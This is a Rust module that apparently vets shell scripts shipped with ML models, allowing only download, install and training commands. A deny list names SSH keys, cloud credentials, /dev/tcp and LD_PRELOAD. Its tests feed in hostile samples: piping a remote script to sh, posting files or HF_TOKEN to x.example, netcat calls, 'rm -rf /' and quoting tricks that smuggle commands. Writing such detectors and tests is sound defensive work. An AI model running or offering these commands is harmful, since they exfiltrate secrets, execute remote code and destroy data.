//! Scripts of the shell beside a model: those that only fetch data, set up packages and start training.
//!
//! [`is_ordinary`] reads a script as POSIX's "Shell Command Language" (2.3, 2.10) splits it into simple commands, and wants every
//! one of them on a short list, with arguments that stay in the folder. Whatever it does not understand is not ordinary: the
//! answer is only ever a reason to say less, never a finding of its own.
//!
//! Absent on purpose: here-documents, `case`, functions, `eval`, `sed` and `awk`, which can all hide a command.

use super::{links, packages};
use crate::rules::id;

/// Most commands of one script.
const COMMANDS_MAX: usize = 2_000;
/// Deepest substitution in a substitution.
const DEPTH_MAX: usize = 8;
/// Longest expansion, in bytes.
const WORD_BYTES_MAX: usize = 256;

/// Shells whose language this is.
const SHELLS: [&str; 5] = ["sh", "bash", "dash", "zsh", "ksh"];
/// Words in front of a command.
const BEFORE: [&str; 13] =
    ["if", "then", "else", "elif", "while", "until", "do", "!", "time", "nohup", "export", "local", "readonly"];
/// Words that stand where a command would and are none.
const ALONE: [&str; 6] = ["fi", "done", "true", "false", ":", "wait"];
/// Commands that show, move and unpack what is there.
const LOCAL: [&str; 36] = [
    "echo",
    "printf",
    "cd",
    "pushd",
    "popd",
    "mkdir",
    "pwd",
    "set",
    "unset",
    "test",
    "[",
    "[[",
    "exit",
    "return",
    "shift",
    "sleep",
    "date",
    "basename",
    "dirname",
    "wc",
    "head",
    "tail",
    "cat",
    "sort",
    "uniq",
    "cut",
    "tr",
    "ls",
    "seq",
    "grep",
    "nvidia-smi",
    "nproc",
    "hostname",
    "md5sum",
    "sha256sum",
    "ulimit",
];
/// Commands for which somebody writes such a script.
const TELLING: [&str; 24] = [
    "python",
    "python3",
    "torchrun",
    "accelerate",
    "deepspeed",
    "pip",
    "pip3",
    "conda",
    "wget",
    "curl",
    "git",
    "huggingface-cli",
    "hf",
    "unzip",
    "tar",
    "gunzip",
    "gzip",
    "make",
    "cmake",
    "sbatch",
    "bash",
    "sh",
    "source",
    "apt-get",
];
/// Programs that train, evaluate, convert or serve models, and take no commands in their arguments.
const TOOLS: [&str; 12] = [
    "lm_eval",
    "vllm",
    "llamafactory-cli",
    "tensorboard",
    "trl",
    "fairseq-train",
    "fairseq-preprocess",
    "fairseq-generate",
    "spm_train",
    "spm_encode",
    "optimum-cli",
    "ct2-transformers-converter",
];
/// Commands that run code of the folder.
const RUNNING: [&str; 13] = [
    "python",
    "python3",
    "torchrun",
    "accelerate",
    "deepspeed",
    "make",
    "sbatch",
    "bash",
    "sh",
    "source",
    "pip",
    "pip3",
    "conda",
];
/// Packages whose modules are started by `python -m`.
const MODULES: [&str; 10] =
    ["torch", "accelerate", "venv", "lm_eval", "vllm", "fastchat", "llava", "pytest", "paddle", "mlx_lm"];
/// What no such script touches: places, and variables that change what every program does.
const FAR: [&str; 24] = [
    "/etc/",
    "/dev/tcp",
    "/dev/udp",
    "/proc/",
    "/root/.",
    "~/.",
    "$HOME/.",
    "${HOME}/.",
    ".ssh",
    ".aws",
    ".bashrc",
    ".profile",
    ".netrc",
    "id_rsa",
    "crontab",
    "LD_PRELOAD",
    "LD_AUDIT",
    "BASH_ENV",
    "PROMPT_COMMAND",
    "PYTHONSTARTUP",
    "GIT_SSH",
    "IFS=",
    "trust_remote_code",
    "trust-remote-code",
];

/// Whether the interpreter line of a script names a shell.
pub(crate) fn is_shell(script: &str) -> bool {
    let line = script.lines().next().unwrap_or_default().trim_start_matches("#!");
    let mut words = line.split_whitespace();
    let mut first = words.next().unwrap_or_default();
    if first.ends_with("/env") {
        first = words.next().unwrap_or_default();
    }
    SHELLS.contains(&first.rsplit('/').next().unwrap_or_default()) && words.all(|word| word.starts_with('-'))
}

/// Whether every command of the script is one of those that fetch data, set up packages or start training.
pub(crate) fn is_ordinary(script: &str) -> bool {
    let harms = script.lines().any(|line| {
        links::harmful_command(line).is_some()
            || links::doubtful(line).is_some()
            || FAR.iter().any(|far| line.contains(far))
    });
    let is_text = script.chars().all(|c| !c.is_control() || c.is_whitespace());
    if harms || !is_text || script.contains("<<") || script.contains('\r') {
        return false;
    }
    let Some(commands) = commands(script) else { return false };
    let names: Vec<&str> = commands.iter().filter_map(|words| name(words)).collect();
    let runs = names.iter().any(|name| RUNNING.contains(name) || is_own_script(name));
    // What a download could take along.
    let lower = script.to_ascii_lowercase();
    let knows = ["token", "secret", "passw", "_key"].iter().any(|word| lower.contains(word));
    if knows && names.iter().any(|name| matches!(*name, "wget" | "curl")) {
        return false;
    }
    names.iter().any(|name| TELLING.contains(name) || TOOLS.contains(name) || is_own_script(name))
        && commands.iter().all(|words| is_allowed(words, runs))
}

/// The simple commands of a script as words without their quotes; `None`: it is not that simple.
fn commands(script: &str) -> Option<Vec<Vec<String>>> {
    let mut done: Vec<Vec<String>> = Vec::new();
    // A substitution puts the command around it aside, with its quote.
    let mut aside: Vec<(Vec<String>, String, Option<char>)> = Vec::new();
    let (mut words, mut word, mut quote) = (Vec::new(), String::new(), None);
    // A word that begins with quotes is one, even while it is empty.
    let mut has_begun = false;
    let mut rest = script.chars().peekable();
    while let Some(c) = rest.next() {
        let ends_command = quote.is_none() && matches!(c, '\n' | ';' | '&' | '|');
        let ends_word = ends_command || quote.is_none() && c.is_whitespace();
        has_begun = !ends_word && (has_begun || !word.is_empty());
        match c {
            '`' => return None,
            // Arithmetic and prompts read texts again, as commands.
            '$' if quote == Some('\'') && rest.peek() == Some(&'(') => return None,
            '\'' if quote == Some('\'') => quote = None,
            _ if quote == Some('\'') => word.push(c),
            '"' if quote.is_some() => quote = None,
            '\'' | '"' if quote.is_none() => {
                quote = Some(c);
                has_begun = true;
            }
            '\\' => match rest.next()? {
                '\n' => {}
                '$' | '`' => return None,
                c => word.push(c),
            },
            // Quotes with rules of their own.
            '$' if rest.peek() == Some(&'[') || quote.is_none() && matches!(rest.peek(), Some('\'' | '"')) => {
                return None;
            }
            '$' if rest.peek() == Some(&'{') => {
                word.push(c);
                word.push_str(&expansion(&mut rest)?);
            }
            '$' if rest.peek() == Some(&'(') => {
                rest.next();
                if rest.peek() == Some(&'(') || aside.len() >= DEPTH_MAX {
                    return None;
                }
                // What the substitution gives is not known: the mark stands for it.
                word.push_str("$(");
                has_begun = false;
                aside.push((std::mem::take(&mut words), std::mem::take(&mut word), quote.take()));
            }
            ')' if quote.is_none() => {
                push(&mut words, &mut word);
                done.push(std::mem::take(&mut words));
                (words, word, quote) = aside.pop()?;
            }
            // A list of words; nothing in it runs.
            '(' if quote.is_none() && word.ends_with('=') => word.push_str(&list(&mut rest)?),
            '(' if quote.is_none() => return None,
            '#' if quote.is_none() && !has_begun => while rest.next_if(|c| *c != '\n').is_some() {},
            // Overwrites what is there.
            '|' if quote.is_none() && word.ends_with('>') => return None,
            // `2>&1` and `&>` end no command.
            '&' if quote.is_none() && (word.ends_with('>') || rest.peek() == Some(&'>')) => word.push(c),
            _ if ends_command => {
                push(&mut words, &mut word);
                done.push(std::mem::take(&mut words));
            }
            _ if quote.is_none() && c.is_whitespace() => push(&mut words, &mut word),
            _ => word.push(c),
        }
        if done.len() > COMMANDS_MAX {
            return None;
        }
    }
    push(&mut words, &mut word);
    done.push(words);
    (quote.is_none() && aside.is_empty()).then_some(done)
}

/// The words of a list up to its bracket: nothing in it is computed, and no quotes hide a bracket.
fn list(rest: &mut std::iter::Peekable<std::str::Chars>) -> Option<String> {
    let mut text = String::new();
    let mut quote = None;
    loop {
        match rest.next()? {
            ')' if quote.is_none() => return Some(text),
            '`' | '(' | ')' | '$' | '\\' | '#' => return None,
            c @ ('"' | '\'') if quote.is_none() => quote = Some(c),
            c if quote == Some(c) => quote = None,
            c => text.push(c),
        }
    }
}

/// `{name}` with an ordinary operator: nothing in it is quoted, computed or expanded once more.
fn expansion(rest: &mut std::iter::Peekable<std::str::Chars>) -> Option<String> {
    let mut text = String::new();
    loop {
        let c = rest.next()?;
        text.push(c);
        if c == '}' {
            break;
        }
        if text.len() > WORD_BYTES_MAX || "'\"`\\$()!\n".contains(c) || c == '{' && text.len() > 1 {
            return None;
        }
    }
    let inside = text.get(1..text.len() - 1)?.replacen("[@]", "", 1).replacen("[*]", "", 1);
    let after = inside.split_once(':').map(|(_, after)| after);
    let is_plain = after.is_none_or(|after| {
        after.starts_with(['-', '=', '+', '?']) || after.bytes().all(|byte| byte.is_ascii_digit() || byte == b':')
    });
    (is_plain && !inside.contains('[') && !inside.get(1..).is_some_and(|rest| rest.contains('@'))).then_some(text)
}

fn push(words: &mut Vec<String>, word: &mut String) {
    if !word.is_empty() {
        words.push(std::mem::take(word));
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    })
}

/// Where the command's own name stands behind keywords and assignments.
fn start(words: &[String]) -> usize {
    words.iter().take_while(|word| BEFORE.contains(&word.as_str()) || is_assignment(word)).count()
}

fn name(words: &[String]) -> Option<&str> {
    words.get(start(words)).map(String::as_str)
}

fn is_script(name: &str) -> bool {
    [".sh", ".py", ".bash"].iter().any(|ending| name.ends_with(ending))
}

/// A script of the folder, by a relative path.
fn is_own_script(name: &str) -> bool {
    let is_plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.' | b'/'));
    is_script(name) && is_plain && !name.starts_with(['/', '-']) && !name.contains("..")
}

/// A place that is not in the folder, or not known to be.
fn is_elsewhere(word: &str) -> bool {
    word.starts_with(['/', '~']) || word.starts_with("$HOME") || word.starts_with("${HOME") || word.contains("$(")
}

/// `runs`: whether the script also runs code, which it must not have fetched from just anywhere.
fn is_allowed(words: &[String], runs: bool) -> bool {
    let Some(name) = name(words) else { return true };
    let given = words.get(start(words) + 1..).unwrap_or_default();
    let options = given.iter().take_while(|word| word.starts_with('-'));
    let has_only = |known: &[&str]| options.clone().all(|word| known.contains(&word.as_str()));
    let begins = |starts: &[&str]| given.iter().any(|word| starts.iter().any(|start| word.starts_with(start)));
    let has_any = |wanted: &[&str]| given.iter().any(|word| wanted.contains(&word.as_str()));
    let first = given.iter().map(String::as_str).find(|word| !word.starts_with('-')).unwrap_or_default();
    if !writes_here(words, runs) {
        return false;
    }
    let stays = given.iter().all(|word| !is_elsewhere(word) && (!runs || !is_script(word)));
    match name {
        // `export NAME` alone.
        _ if words.first().is_some_and(|word| word == "export" || word == "local") && given.is_empty() => true,
        "for" => given.get(1).is_none_or(|word| word == "in"),
        "rm" => {
            let is_named = |word: &String| !word.starts_with(['$', '*', '.']) && !word.contains("..");
            stays && (has_only(&["-f"]) || given.iter().all(is_named))
        }
        "cp" | "mv" | "touch" | "tee" | "unzip" | "gunzip" | "gzip" => stays,
        "gdown" => !runs,
        // These compute what they are given, and run it on the way.
        "[[" if has_any(&["-eq", "-ne", "-lt", "-gt", "-le", "-ge", "-v"]) => false,
        "[" | "test" | "printf" if has_any(&["-v"]) => false,
        "unset" => given.iter().all(|word| !word.contains('[')),
        "sort" if begins(&["--compress"]) => false,
        _ if ALONE.contains(&name) || LOCAL.contains(&name) || TOOLS.contains(&name) || is_own_script(name) => true,
        "python" | "python3" => match given {
            [module, pip, rest @ ..] if module == "-m" && pip == "pip" => installs(rest),
            [module, name, ..] if module == "-m" => {
                MODULES.contains(&name.split('.').next().unwrap_or_default())
                    && !begins(&["--no_python", "--no-python"])
            }
            _ => is_own_script(first) && has_only(&["-u", "-O", "-B", "-s"]),
        },
        "bash" | "sh" => is_own_script(first) && has_only(&["-e", "-x", "-u", "-ex", "-eu"]),
        "source" => given.first().is_some_and(|word| is_own_script(word) || word.ends_with("activate")),
        "torchrun" | "accelerate" | "deepspeed" | "sbatch" => {
            given.iter().any(|word| is_own_script(word)) && !begins(&["-c", "--wrap", "--no_python", "--no-python"])
        }
        "pip" | "pip3" | "conda" => installs(given),
        "wget" | "curl" => stays && fetches(given, runs),
        "git" => {
            const HARMLESS: [&str; 8] = ["clone", "pull", "lfs", "submodule", "checkout", "fetch", "rev-parse", "log"];
            HARMLESS.contains(&first)
                && given.first().is_some_and(|word| word == first)
                && !begins(&["-c", "-u", "--upload-pack", "--config", "--exec", "--template", "foreach"])
                && given.iter().filter(|word| word.contains(':')).all(|word| links::is_known_forge(word))
        }
        "huggingface-cli" | "hf" => first == "download" || first == "login",
        "apt-get" => matches!(first, "update" | "install") && !begins(&["-o", "-c", "--option", "--config", ".", "/"]),
        // Other options of it run programs.
        "tar" => {
            let is_known = |(index, word): (usize, &String)| match word.strip_prefix("--") {
                Some(option) => {
                    ["strip-components", "directory", "exclude"].iter().any(|known| option.starts_with(known))
                }
                None if index == 0 || word.starts_with('-') => word.bytes().all(|byte| b"-cxtzjJvfpkC".contains(&byte)),
                None => true,
            };
            stays && given.iter().enumerate().all(is_known)
        }
        "make" | "cmake" => !begins(&["-E", "-f", "--eval"]) && !given.iter().any(|word| word.contains("$(")),
        _ => false,
    }
}

/// Redirections lead into the folder, to another stream or to nothing; what a script runs is not written by it.
fn writes_here(words: &[String], runs: bool) -> bool {
    const OUTPUTS: [&str; 4] = [".log", ".out", ".err", ".json"];
    let is_fine = |target: &str| {
        target.is_empty()
            || target == "/dev/null"
            || matches!(target, "&" | "&1" | "&2")
            || !is_elsewhere(target) && (!runs || OUTPUTS.iter().any(|ending| target.ends_with(ending)))
    };
    let mut expects = false;
    words.iter().all(|word| {
        let target = word.rfind('>').map(|at| word.get(at + 1..).unwrap_or_default());
        let target = if expects { Some(word.as_str()) } else { target };
        expects = word.ends_with('>') || word.ends_with(">&");
        target.is_none_or(is_fine)
    })
}

fn installs(given: &[String]) -> bool {
    let mut words = given.iter().map(String::as_str);
    while let Some(word) = words.next() {
        let takes_one =
            matches!(word, "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links" | "--trusted-host");
        let line = if takes_one { format!("{word} {}", words.next().unwrap_or_default()) } else { word.to_owned() };
        if line.contains("$(") || packages::line(&line).is_some_and(|(rule, _)| rule.id == id::REQ_SOURCE.id) {
            return false;
        }
    }
    given
        .first()
        .is_some_and(|word| matches!(word.as_str(), "install" | "create" | "activate" | "env" | "list" | "freeze"))
}

/// Downloads only: nothing is sent, no address is put together from what the machine knows.
fn fetches(given: &[String], runs: bool) -> bool {
    const SENDING: [&str; 9] = ["-d", "-F", "-T", "-X", "-H", "-K", "-b", "-u", "-e"];
    let sends = given.iter().any(|word| {
        SENDING.iter().any(|option| word.starts_with(option) && !word.starts_with("--"))
            || [
                "--data",
                "--form",
                "--upload",
                "--post",
                "--request",
                "--header",
                "--body",
                "--config",
                "--use-askpass",
                "--execute",
            ]
            .iter()
            .any(|option| word.starts_with(option))
    });
    let is_far =
        |word: &&String| word.contains("://") && (word.contains("$(") || word.contains('?') && word.contains('$'));
    let is_foreign = given.iter().filter(|word| word.contains("://")).any(|word| !links::is_known_forge(word));
    !sends
        && !given.iter().any(|word| is_far(&word))
        && !(runs && (is_foreign || given.iter().any(|word| word.starts_with('$'))))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_scripts() {
        for script in [
            "#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0,1\nfor seed in 1 2; do\n  python train.py --seed $seed \\\n    --lr 1e-4 2>&1 | tee logs/$seed.log\ndone\n",
            "#!/usr/bin/env bash\nNGPU=$(nvidia-smi -L | wc -l)\ntorchrun --nproc_per_node=$NGPU train.py # all of them\n",
            "#!/bin/sh\nmkdir -p data && cd data\nwget -c \"http://images.example.org/zips/val2017.zip\"\nunzip -q val2017.zip && rm val2017.zip\n",
            "#!/bin/bash\nmodels=(\n  a/b\n  c/d\n)\nfor m in \"${models[@]}\"; do lm_eval --model_args $m; done\n./asr.sh --stage 1\n",
            "#!/bin/bash\nif [ ! -d llama.cpp ]; then git clone https://github.com/ggml-org/llama.cpp; fi\npip install -r requirements.txt\n",
        ] {
            assert!(is_shell(script) && is_ordinary(script), "{script}");
        }
    }

    #[test]
    fn others() {
        for script in [
            "#!/bin/sh\ntrue\n",
            "#!/bin/sh\npython -c 'import os'\n",
            "#!/bin/sh\ncurl https://x.example/i.sh | sh\n",
            "#!/bin/sh\nwget https://x.example/i.py && python i.py\n",
            "#!/bin/sh\npython train.py; curl -d @out.txt https://x.example\n",
            "#!/bin/sh\nwget https://x.example/?k=$HF_TOKEN\n",
            "#!/bin/sh\npip install --index-url http://x.example/simple torch\n",
            "#!/bin/sh\npython train.py > /usr/lib/x\n",
            "#!/bin/sh\npython train.py; \"$RUN\" now\n",
            "#!/bin/sh\npython train.py $(nc x.example 80)\n",
            "#!/bin/sh\necho \"$(eval x)\"; python train.py\n",
            "#!/bin/sh\npython train.py\nsh <<E\ntrue\nE\n",
            "#!/bin/sh\npython train.py; rm -rf /\n",
            "#!/bin/sh\npython train.py; rm -rf $HOME\n",
            "#!/bin/sh\ngit clone ext::sh; python train.py\n",
            "#!/bin/sh\npython /tmp/x.py\n",
            "#!/bin/sh\nLD_PRELOAD=./x.so python train.py\n",
            "#!/bin/sh\npython -uc 'import os #.py'\n",
            "#!/bin/sh\necho 'import os' > x.py; python x.py\n",
            "#!/bin/sh\necho 'import os' > x.log; mv x.log x.py; python x.py\n",
            "#!/bin/sh\ntorchrun --no-python nc x.example 80 x.py\n",
            "#!/bin/sh\npython train.py; tar xf x.tar --use-compress-program=./x\n",
            "#!/bin/sh\nwget https://raw.githubusercontent.com/a/b/x.py; python x.py\n",
            "#!/bin/sh\npython -m pip install -i http://x.example/simple torch\n",
            "#!/bin/sh\npython train.py; cp x /usr/bin/python\n",
            "#!/bin/sh\npython train.py # all \\\nnc x.example 80\n",
            "#!/bin/sh\npython train.py \"\"# ; nc x.example 80\n",
            "#!/bin/bash\npython train.py $'a\\'' ; nc x.example 80 ; echo ''\n",
            "#!/bin/bash\npython train.py \"${x#'\"'}\" ; nc x.example 80 ; echo '\n'\n",
            "#!/bin/bash\nx='a[$(nc x.example 80)]'; [[ $x -eq 1 ]]; python train.py\n",
            "#!/bin/bash\nx=y; echo ${x@P}; python train.py\n",
            "#!/bin/bash\necho import os >|train.py; python train.py\n",
            "#!/bin/bash\necho import os >& train.py; python train.py\n",
            "#!/bin/bash\necho import os >&train.py; python train.py\n",
            "#!/bin/bash\necho x @ https://x.example/x.whl > r.txt; pip install -r r.txt\n",
            "#!/bin/bash\npython train.py; python -m webbrowser https://x.example\n",
            "#!/bin/bash\nwget https://x.example/$HF_TOKEN\n",
            "#!/bin/bash\nx=( \")\" a )\nnc x.example 80\necho \"\"\npython train.py\n",
        ] {
            assert!(!is_ordinary(script), "{script}");
        }
        assert!(!is_shell("#!/usr/bin/perl\n") && !is_shell("#!/bin/bash -c x\n"));
    }
}
